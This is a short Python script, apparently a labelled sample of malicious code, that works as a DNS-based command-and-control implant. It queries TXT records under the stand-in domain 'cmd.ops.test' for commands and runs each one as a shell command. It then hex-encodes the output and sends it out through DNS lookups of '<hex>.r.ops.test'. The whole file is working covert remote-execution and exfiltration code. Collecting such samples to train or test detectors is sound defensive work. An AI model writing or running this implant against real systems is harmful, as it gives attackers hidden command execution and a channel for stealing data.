# class: shell; possible: low medium; style: commands from TXT records
import random
import socket
import struct
import subprocess
import time


def txt(name):
    q = struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 16, 1)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(3)
    u.sendto(q, ("127.0.0.53", 53))
    a = u.recv(2048)
    if struct.unpack(">H", a[6:8])[0] == 0:
        return ""
    at = len(q) + 12
    return a[at + 1:at + 1 + a[at]].decode()


for i in range(8):
    try:
        command = txt(f"c{i}.cmd.ops.test")
    except OSError:
        command = ""
    if command:
        out = subprocess.getoutput(command).encode().hex()[:50]
        try:
            socket.gethostbyname(f"{out}.r.ops.test")
        except OSError:
            pass
    time.sleep(1.5)
